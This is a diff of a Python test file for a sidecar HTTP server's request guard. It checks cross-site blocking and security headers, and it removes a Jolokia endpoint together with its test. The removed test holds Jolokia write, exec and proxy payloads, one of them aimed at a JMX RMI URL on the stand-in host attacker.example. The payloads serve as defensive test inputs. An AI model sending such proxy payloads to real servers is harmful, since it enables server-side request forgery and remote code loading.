@@ -1,15 +1,14 @@
 """Requests of web pages, proxies and strangers to the agent's HTTP."""
 
 import http.client
-import json
 
 import pytest
 from flask.testing import FlaskClient
 
 from sidecar.http.guard import HEADERS, RequestFacts, rejection_of
 from sidecar.http.hosts import KnownHosts, allowed_host_problems
+from sidecar.http.jmx_pages import jmx_pages
 from sidecar.http.server import HttpServer, create_app
-from sidecar.jolokia.pages import jmx_pages
 from tests.support.agents.fake_status import HOST, FakeStatus
 from tests.support.agents.raw_http import END, change_pages, exchange
 
@@ -19,7 +18,7 @@ OPEN = KnownHosts("0.0.0.0", (), frozenset({"db1", "db1.example.com"}))
 
 @pytest.fixture
 def client() -> FlaskClient:
-    pages = [change_pages(), jmx_pages("cassandra", "t", "1", lambda: {"streaming": {"Up": True}})]
+    pages = [change_pages(), jmx_pages("cassandra", "t", lambda: {"streaming": {"Up": True}})]
     return create_app(FakeStatus(), pages, hosts=LOOPBACK).test_client()
 
 
@@ -113,39 +112,18 @@ def test_other_sites_change_nothing(client: FlaskClient) -> None:
         {"Sec-Fetch-Site": "cross-site"},
         {"Sec-Fetch-Site": "same-site"},
     ):
-        for path in ("/change", "/jolokia"):
-            assert client.post(path, json={}, headers=headers).status_code == 403
+        assert client.post("/change", json={}, headers=headers).status_code == 403
     for headers in ({}, {"Origin": "http://localhost"}, {"Sec-Fetch-Site": "same-origin"}):
         assert client.post("/change", json={}, headers=headers).text == "done"
 
 
 def test_no_other_site_may_read_or_frame(client: FlaskClient) -> None:
-    for path in ("/health", "/offsets", "/metrics", "/nope", "/jolokia/list"):
+    for path in ("/health", "/offsets", "/metrics", "/nope", "/metrics/jmx"):
         for method in ("GET", "OPTIONS"):
             answer = client.open(path, method=method, headers={"Origin": "https://a.example"})
             assert not [name for name in answer.headers.keys() if "Access-Control" in name]  # noqa: SIM118
             for name, value in HEADERS.items():
                 assert answer.headers[name] == value
-
-
-def test_jolokia_neither_writes_nor_executes_nor_asks_others(client: FlaskClient) -> None:
-    bean = "debezium.cassandra:context=streaming,server=t,type=connector-metrics"
-    target = {"url": "service:jmx:rmi:///jndi/rmi://attacker.example/x"}
-    for document in (
-        {"type": "write", "mbean": bean, "attribute": "Up", "value": False},
-        {"type": "exec", "mbean": "java.lang:type=Memory", "operation": "gc"},
-        {"type": "read", "mbean": bean, "target": target},
-        {"type": "version", "target": target},
-    ):
-        answer = client.post("/jolokia", json=document).json
-        assert answer is not None
-        assert answer["status"] == 403
-        assert "value" not in answer
-        assert "attacker" not in json.dumps(answer)
-    for path in ("exec/java.lang:type=Memory/gc", "write/x:y=z/A/1"):
-        answer = client.get(f"/jolokia/{path}").json
-        assert answer is not None
-        assert answer["status"] == 403
 
 
 def test_paths_lead_to_no_files(client: FlaskClient) -> None:
